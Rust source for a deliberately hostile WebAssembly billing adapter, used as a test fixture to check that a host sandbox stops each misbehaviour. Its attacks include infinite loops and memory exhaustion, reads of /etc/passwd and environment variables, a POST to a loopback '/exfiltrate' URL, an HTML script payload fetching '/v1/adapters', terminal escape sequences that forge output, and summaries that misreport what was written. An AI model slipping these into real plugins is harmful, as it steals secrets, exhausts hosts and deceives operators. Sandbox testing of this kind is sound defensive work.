//! An adapter that misbehaves on purpose, one way per config, so the tests
//! can prove the sandbox stops each one with a clear reason:
//!
//! `{"attack": "loop" | "memory" | "recursion" | "trap" | "flood-output" |
//! "flood-log" | "read-file" | "read-env" | "out-of-scope" | "send-forbidden" |
//! "garbage" | "garbage-rows" | "refuse-config" | "html-document" |
//! "terminal-escapes" | "none"}`
//!
//! and, against what the host keeps or spends on an adapter's behalf
//! (sizes from `"count"` and `"bytes"`):
//!
//! - `"documents"`: `count` documents, each with a content type of `bytes` bytes;
//! - `"cursors"`: `count` cursors kept open, each naming the first granted
//!   subscription `bytes` times;
//! - `"query-many"`: one query naming `count` subscriptions without usage,
//!   then `next()`;
//! - `"nul-subscription"`: a query naming a subscription id with a NUL;
//! - `"read-all"`: reads every row of its scope, however long that takes;
//! - `"empty-log"`: `count` empty log lines;
//! - `"huge-error"`: a permanent error of `bytes` bytes;
//! - `"summary-names"`: a summary naming `count` documents it never wrote;
//! - `"spin-config"`: `validate-config` spins until stopped;
//! - `"config-documents"`: `"documents"` in `validate-config`;
//! - `"append-for"`: reads the usage of `"read"` (a subscription id; all of
//!   its scope when absent), then writes `statement-<id>.txt` for the
//!   subscription `"for"` (a subscription id; the first one read when absent)
//!   and `operator.txt` with `append`, and returns a summary naming what
//!   was written, whatever the host refused.
//!
//! Built with the `describe-bomb` feature, `describe()` returns an 8 MiB name,
//! an 8 MiB version and 500,000 documents. It targets `tally:billing@0.2.0`;
//! built with the `contract-0-1` feature, `tally:billing@0.1.0` (without
//! `"append-for"`).

#[cfg(not(feature = "contract-0-1"))]
wit_bindgen::generate!({ path: "../../wit", world: "billing-adapter" });
#[cfg(feature = "contract-0-1")]
wit_bindgen::generate!({ path: "../../wit/v0.1", world: "billing-adapter" });

use exports::tally::billing::adapter::{Description, ExportError, ExportRequest, Guest, Summary};
use tally::billing::log::{Level, write as log};
use tally::billing::output::{OutboundRequest, append, send};
use tally::billing::usage::query;

struct Hostile;

fn attack(config: &str) -> &str {
    config.split('"').nth(3).unwrap_or("none")
}

/// The string after `"key":` in the config, if there is one.
#[cfg(not(feature = "contract-0-1"))]
fn text(config: &str, key: &str) -> Option<String> {
    let at = config.find(&format!("\"{key}\":"))?;
    config[at + key.len() + 3..]
        .split('"')
        .nth(1)
        .map(str::to_owned)
}

/// The number after `"key":` in the config, or `default`.
fn number(config: &str, key: &str, default: usize) -> usize {
    let Some(at) = config.find(&format!("\"{key}\":")) else {
        return default;
    };
    let digits: String = config[at + key.len() + 3..]
        .chars()
        .skip_while(|c| c.is_whitespace())
        .take_while(char::is_ascii_digit)
        .collect();
    digits.parse().unwrap_or(default)
}

fn permanent(error: impl std::fmt::Debug) -> ExportError {
    ExportError::Permanent(format!("{error:?}"))
}

impl Guest for Hostile {
    fn describe() -> Description {
        if cfg!(feature = "describe-bomb") {
            return Description {
                name: "n".repeat(8 << 20),
                version: "1".repeat(8 << 20),
                produces: (0..500_000).map(|i| format!("document-{i}.csv")).collect(),
            };
        }
        Description {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            produces: vec!["out.txt".into()],
        }
    }

    fn validate_config(config: String) -> Result<(), String> {
        if attack(&config) == "spin-config" {
            let mut x = 0u64;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        if attack(&config) == "config-documents" {
            // What the host keeps for an adapter is bounded at install too.
            let content_type = "t".repeat(number(&config, "bytes", 1 << 20));
            for i in 0..number(&config, "count", 100_000) {
                append(&format!("d{i}.txt"), &content_type, b"x").map_err(|e| format!("{e:?}"))?;
            }
            return Err("wrote every document".into());
        }
        if attack(&config) == "refuse-config" {
            // Output on stderr while refusing: the host must take both calmly.
            eprintln!("the hostile adapter refuses its config on purpose");
            return Err("refused on purpose".into());
        }
        Ok(())
    }

    fn export(request: ExportRequest, config: String) -> Result<Summary, ExportError> {
        let mut written = 0u64;
        match attack(&config) {
            "loop" => {
                let mut x = 0u64;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => {
                #[allow(unconditional_recursion)] // the point of the attack
                fn deeper(n: u64) -> u64 {
                    std::hint::black_box(deeper(std::hint::black_box(n + 1)) + 1)
                }
                written = deeper(0);
            }
            "trap" => panic!("the hostile adapter panics on purpose"),
            "flood-output" => {
                let chunk = vec![b'x'; 1 << 20];
                loop {
                    append("out.txt", "text/plain", &chunk)
                        .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
                }
            }
            "flood-log" => {
                for i in 0..10_000_000u64 {
                    log(Level::Info, &format!("line {i} of a flood"));
                    eprintln!("stderr line {i}");
                }
            }
            "read-file" => {
                let found = std::fs::read_to_string("/etc/passwd")
                    .map_err(|e| ExportError::Permanent(format!("no file access: {e}")))?;
                append("out.txt", "text/plain", found.as_bytes()).ok();
            }
            "read-env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                if !vars.is_empty() {
                    append("out.txt", "text/plain", vars.join("\n").as_bytes()).ok();
                    return Err(ExportError::Permanent(format!(
                        "read {} environment variables",
                        vars.len()
                    )));
                }
                return Err(ExportError::Permanent(
                    "no environment variables visible".into(),
                ));
            }
            "out-of-scope" => {
                query(
                    request.window,
                    request.granularity,
                    Some(&["someone-else".to_string()]),
                )
                .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
            }
            "send-forbidden" => {
                // The discard port of the loopback: never an allowed origin in the tests.
                let request = OutboundRequest {
                    method: "POST".into(),
                    url: "http://127.0.0.1:9/exfiltrate".into(),
                    headers: vec![],
                    body: b"usage the host did not mean to share".to_vec(),
                };
                send(&request).map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
            }
            "garbage" | "garbage-rows" => {
                // Reads everything, then lies about it in the summary.
                let cursor = query(request.window, request.granularity, None)
                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
                let mut read = 0u64;
                while let Some(batch) = cursor.next() {
                    read += batch.quantity.len() as u64;
                }
                append("out.txt", "text/plain", format!("{read} rows\n").as_bytes())
                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
                let mut documents = vec!["out.txt".to_string()];
                if attack(&config) == "garbage" {
                    documents.push("never-written.csv".into());
                }
                return Ok(Summary {
                    rows_read: read + 1,
                    rows_written: read,
                    documents,
                });
            }
            "html-document" => {
                // A page that would run a script in the host's origin if a browser rendered it.
                let page = b"<html><script>fetch('/v1/adapters').then(r => r.text()).then(alert)</script></html>";
                append("page.html", "text/html", page)
                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
                append("table.csv", "text/csv; charset=utf-8", b"a,b\n1,2\n")
                    .map_err(|e| ExportError::Permanent(format!("{e:?}")))?;
                return Ok(Summary {
                    rows_read: 0,
                    rows_written: 1,
                    documents: vec!["page.html".into(), "table.csv".into()],
                });
            }
            "terminal-escapes" => {
                // Clear the screen, retitle the window, recolour: on the operator's terminal.
                let text =
                    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mscreen cleared\u{1b}[0m\r\nforged row";
                log(Level::Warn, text);
                return Err(ExportError::Permanent(text.into()));
            }
            "documents" => {
                let content_type = "t".repeat(number(&config, "bytes", 1 << 20));
                for i in 0..number(&config, "count", 100_000) {
                    append(&format!("d{i}.txt"), &content_type, b"x").map_err(permanent)?;
                }
                return Err(ExportError::Permanent("wrote every document".into()));
            }
            "cursors" => {
                let granted = first_subscription(&request)?;
                let ids = vec![granted; number(&config, "bytes", 100_000)];
                let mut open = Vec::new();
                for _ in 0..number(&config, "count", 100) {
                    open.push(
                        query(request.window, request.granularity, Some(&ids))
                            .map_err(permanent)?,
                    );
                }
                return Err(ExportError::Permanent(format!(
                    "{} cursors open",
                    open.len()
                )));
            }
            "query-many" => {
                // Ids without usage: one `next()` queries the store for each.
                let ids: Vec<String> = (0..number(&config, "count", 1_000_000))
                    .map(|i| format!("nobody-{i}"))
                    .collect();
                let cursor =
                    query(request.window, request.granularity, Some(&ids)).map_err(permanent)?;
                cursor.next();
            }
            "nul-subscription" => {
                // An id no record can have: refused, not sent to the database.
                let ids = vec!["sub\0scription".to_owned()];
                query(request.window, request.granularity, Some(&ids)).map_err(permanent)?;
                return Err(ExportError::Permanent("the query was accepted".into()));
            }
            "read-all" => {
                let cursor = query(request.window, request.granularity, None).map_err(permanent)?;
                while cursor.next().is_some() {}
            }
            "empty-log" => {
                for _ in 0..number(&config, "count", 1_000_000) {
                    log(Level::Info, "");
                }
            }
            "huge-error" => {
                return Err(ExportError::Permanent("e".repeat(number(
                    &config,
                    "bytes",
                    100 << 20,
                ))));
            }
            #[cfg(not(feature = "contract-0-1"))]
            "append-for" => return append_for(&request, &config),
            "summary-names" => {
                let count = number(&config, "count", 1_000_000);
                return Ok(Summary {
                    rows_read: 0,
                    rows_written: 0,
                    documents: (0..count)
                        .map(|i| format!("never-written-{i}.csv"))
                        .collect(),
                });
            }
            _ => {}
        }
        Ok(Summary {
            rows_read: 0,
            rows_written: written,
            documents: vec![],
        })
    }
}

/// The `"append-for"` attack: see the module's notes.
#[cfg(not(feature = "contract-0-1"))]
fn append_for(request: &ExportRequest, config: &str) -> Result<Summary, ExportError> {
    let read = text(config, "read").map(|id| vec![id]);
    let cursor = query(request.window, request.granularity, read.as_deref()).map_err(permanent)?;
    let (mut rows, mut first) = (0u64, None);
    while let Some(batch) = cursor.next() {
        rows += batch.quantity.len() as u64;
        if first.is_none() && !batch.subscription_id.is_empty() {
            first = Some(batch.strings[batch.subscription_id[0] as usize].clone());
        }
    }
    let owner = text(config, "for")
        .or(first)
        .ok_or_else(|| ExportError::Permanent("no usage in the window".into()))?;
    let mut documents = Vec::new();
    let statement = format!("statement-{owner}.txt");
    let body = format!("{rows} rows for {owner}\n");
    if tally::billing::output::append_for(&owner, &statement, "text/plain", body.as_bytes()).is_ok()
    {
        documents.push(statement);
    }
    append("operator.txt", "text/plain", b"the operator's own\n").map_err(permanent)?;
    documents.push("operator.txt".into());
    Ok(Summary {
        rows_read: rows,
        rows_written: rows,
        documents,
    })
}

/// A subscription the installation may read: the first of the window's usage.
fn first_subscription(request: &ExportRequest) -> Result<String, ExportError> {
    let cursor = query(request.window, request.granularity, None).map_err(permanent)?;
    let batch = cursor
        .next()
        .ok_or_else(|| ExportError::Permanent("no usage in the window".into()))?;
    Ok(batch.strings[batch.subscription_id[0] as usize].clone())
}

export!(Hostile);
